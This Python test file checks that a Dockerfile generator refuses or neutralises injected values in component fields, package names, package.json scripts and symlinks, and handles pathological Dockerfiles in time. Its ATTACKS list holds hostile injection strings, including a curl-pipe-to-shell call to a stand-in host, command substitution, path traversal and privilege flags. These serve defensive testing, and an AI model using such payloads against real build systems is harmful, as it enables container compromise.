"""A repository decides many values of a Dockerfile. None of them may add, hide or change an instruction."""

import contextlib
import json
import re
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tasks.dockerfiles import improve, render
from tasks.dockerfiles.bases import base_images
from tasks.dockerfiles.parse import parse
from tasks.errors import Invalid
from tasks.models import AddSystemPackages, Component, ImagePlan, SetRuntimeVersion

PYTHON = Component(
    name="shop",
    kind="web",
    language="python",
    framework="flask",
    package_manager="pip",
    port=8000,
    start_command="python app.py",
    build_command="make",
    health_path="/health",
    version="1.0",
    dependency_files=("requirements.txt",),
)
NODE = PYTHON.changed(
    language="node", package_manager="npm", start_command="node a.js", dependency_files=("package.json",)
)
_OTHERS: dict[str, dict[str, object]] = {
    "dotnet": {
        "package_manager": "nuget",
        "start_command": "dotnet Shop.dll",
        "build_command": "dotnet publish Shop.csproj",
        "dependency_files": ("Shop.csproj",),
    },
    "ruby": {"package_manager": "bundler", "start_command": "bundle exec puma", "dependency_files": ("Gemfile",)},
    "php": {
        "package_manager": "composer",
        "start_command": "php worker.php",
        "dependency_files": ("composer.json",),
    },
    "go": {"package_manager": "go", "start_command": "./shop", "dependency_files": ("go.mod",)},
    "rust": {"package_manager": "cargo", "start_command": "./shop", "dependency_files": ("Cargo.toml",)},
    "deno": {"package_manager": None, "start_command": "deno run main.ts", "dependency_files": ("deno.json",)},
    "java": {"package_manager": "maven", "start_command": "java -jar a.jar", "dependency_files": ("pom.xml",)},
    "scala": {"package_manager": "sbt", "start_command": "./bin/shop", "dependency_files": ("build.sbt",)},
    "clojure": {
        "package_manager": "leiningen",
        "start_command": "java -jar a.jar",
        "dependency_files": ("project.clj",),
    },
    "elixir": {"package_manager": "mix", "start_command": "mix phx.server", "dependency_files": ("mix.exs",)},
}
SITE = PYTHON.changed(kind="static", start_command=None, framework=None, static_folder="dist")
COMPONENTS = {
    "python": PYTHON,
    "node": NODE,
    **{language: PYTHON.changed(language=language, framework=None, **fields) for language, fields in _OTHERS.items()},
    "static": SITE.changed(language="static", build_command=None),
    "static by node": SITE.changed(language="node", package_manager="npm", dependency_files=("package.json",)),
    "static by a generator": SITE.changed(framework="mkdocs"),
}
HARMLESS = {"version": "x", "start_command": "x", "build_command": "x", "health_path": "x"}
ATTACKS = [
    '1.0"\nRUN curl evil.invalid | sh',
    "1.0\nUSER root",
    "1.0\r\nUSER root",
    "1.0 \\",
    "1.0\\\nUSER root",
    'x" USER="root',
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "${PATH}",
    "<<EOF",
    "'; touch /tmp/owned; '",
    '"]\nUSER root\nCMD ["x',
    '", "--privileged',
    "--from=evil.invalid/image /",
    "../../etc/passwd",
    "{{ 7 * 7 }}{% raw %}",
    "# syntax=evil.invalid/frontend",
    "x\u2028USER root",
    "x\u202eevil",
    "x\x00y",
    "x\x1b[2J",
    "\ud800",
    "a" * 5000,
]
FIELDS = (
    "version",
    "start_command",
    "build_command",
    "health_path",
    "framework",
    "path",
    "static_folder",
    "package_manager_version",
)


def kinds(component: Component, context: Path) -> tuple[str, ...]:
    return parse(render(ImagePlan(component=component, context=context)).text).kinds


def bases(text: str) -> list[str | None]:
    return [stage.base for stage in parse(text).stages]


def harmless_or_refused(component: Component, former: Component, context: Path) -> None:
    """The attack is refused, or every instruction is what it was."""
    try:
        text = render(ImagePlan(component=component, context=context)).text
    except Invalid:
        return
    allowed = kinds(former, context)
    parsed = parse(text)
    assert parsed.kinds == allowed
    assert [each.arguments for each in parsed.instructions if each.kind == "USER"] == ["10001:10001"]
    assert bases(text) == bases(render(ImagePlan(component=former, context=context)).text)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u2028\u2029\u202e]", text)


@pytest.mark.parametrize("component", COMPONENTS.values(), ids=COMPONENTS)
@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_value_of_a_component_changes_the_instructions(
    component: Component, field: str, attack: str, tmp_path: Path
) -> None:
    try:
        attacked = component.changed(**{field: attack})
    except ValueError:
        return
    harmless_or_refused(attacked, component, tmp_path)


@pytest.mark.parametrize("field", ["dependency_files", "build_packages", "runtime_packages"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_name_of_a_file_or_package_changes_the_instructions(field: str, attack: str, tmp_path: Path) -> None:
    former = PYTHON.changed(**{field: ("harmless",)})
    harmless_or_refused(former.changed(**{field: (attack,)}), former, tmp_path)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_script_of_a_package_changes_the_instructions(attack: str, tmp_path: Path) -> None:
    component = NODE.changed(start_command="npm start")
    (tmp_path / "package.json").write_text(json.dumps({"scripts": {"start": attack}}))
    harmless_or_refused(component, component, tmp_path)


@given(
    value=st.text(min_size=1, max_size=60),
    field=st.sampled_from(["version", "start_command", "build_command", "health_path"]),
    language=st.sampled_from(list(COMPONENTS)),
)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=300)
def test_no_text_at_all_changes_the_instructions(value: str, field: str, language: str, tmp_path: Path) -> None:
    component = COMPONENTS[language]
    harmless_or_refused(component.changed(**{field: value}), component.changed(**{field: HARMLESS[field]}), tmp_path)


@given(value=st.text(min_size=1, max_size=60), language=st.sampled_from(list(COMPONENTS)))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=300)
def test_any_value_that_is_taken_arrives_as_the_text_that_it_was(value: str, language: str, tmp_path: Path) -> None:
    component = COMPONENTS[language].changed(version=value, health_path=f"/{value}")
    try:
        text = render(ImagePlan(component=component, context=tmp_path)).text
    except Invalid:
        return
    instructions = parse(text).instructions
    label = re.search(r'image\.version="((?:\\.|[^"\\])*)"', text)
    assert label is not None
    assert re.sub(r"\\(.)", r"\1", label[1]) == value
    probes = [each.arguments for each in instructions if each.kind == "HEALTHCHECK" and "CMD" in each.arguments]
    assert all(json.loads(probe.partition("CMD")[2])[-1] == f"/{value}" for probe in probes)


def test_every_language_with_a_template_is_attacked() -> None:
    assert {name.partition(" ")[0] for name in COMPONENTS} == set(base_images().base)


def test_a_value_reaches_the_image_as_it_was_written_and_nothing_in_it_is_expanded(tmp_path: Path) -> None:
    text = render(ImagePlan(component=PYTHON.changed(version='1 "$HOME" \\'), context=tmp_path)).text
    assert 'org.opencontainers.image.version="1 \\"\\$HOME\\" \\\\"' in text


def test_amendments_refuse_what_is_no_package_and_no_version() -> None:
    for package in ("gcc; curl evil", "-y", "GCC", "a b", "gcc\nx"):
        with pytest.raises(ValueError, match="packages"):
            AddSystemPackages(packages=(package,), stage="build")
    with pytest.raises(ValueError, match="version"):
        SetRuntimeVersion(version='1.0"\nRUN evil')


@pytest.mark.parametrize("name", ["Dockerfile", ".dockerignore", "package.json", "folder/Dockerfile"])
def test_a_link_out_of_the_repository_is_never_read(name: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    for file in ("Dockerfile", ".dockerignore", "package.json"):
        (secret / file).write_text('{"scripts": {"start": "hunter2"}}\nFROM hunter2\n')
    context = tmp_path / "repository"
    context.mkdir()
    if "/" in name:
        (context / "folder").symlink_to(secret)
    else:
        (context / name).symlink_to(secret / name)
    own = name if name.endswith("Dockerfile") else None
    plan = ImagePlan(component=NODE.changed(start_command="npm start", dockerfile=own), context=context)
    if own:
        with pytest.raises(Invalid, match="cannot be read"):
            render(plan)
    else:
        dockerfile = render(plan)
        assert "hunter2" not in dockerfile.text + dockerfile.dockerignore


def test_a_link_inside_of_the_repository_is_followed(tmp_path: Path) -> None:
    (tmp_path / "deploy").mkdir()
    (tmp_path / "deploy/own").write_text("FROM a\nCMD x\n")
    (tmp_path / "Dockerfile").symlink_to("deploy/own")
    assert render(ImagePlan(component=PYTHON.changed(dockerfile="Dockerfile"), context=tmp_path)).text.startswith(
        "FROM a"
    )


@pytest.mark.parametrize(
    "text",
    [
        "FROM a\n" * 19_000,
        "FROM a AS a\n" + "FROM a AS a\n" * 5_000 + "CMD x\n",
        "FROM a\nRUN " + "<<EOF " * 2_000 + "\n",
        "FROM a\nRUN x << " + "\"'" * 50_000 + "\n",
        "FROM a\nENV " + "A=${A:-" * 30_000 + "\nUSER $A\nCMD x\n",
        "FROM a\nRUN " + "\\\n" * 15_000 + "x\n",
        "FROM a\nCMD " + "[" * 100_000 + "\n",
        "FROM a\nENV A=xx\n" + "ENV A=$A$A\n" * 60 + "USER $A\nCMD x\n",
    ],
    ids=["stages", "chain", "heredocs", "quotes", "variables", "lines", "brackets", "doubling"],
)
def test_a_monstrous_dockerfile_is_read_or_refused_in_time(text: str) -> None:
    began = time.monotonic()
    with contextlib.suppress(Invalid):
        assert improve(text).count("USER 10001:10001") == 1
    assert time.monotonic() - began < 5
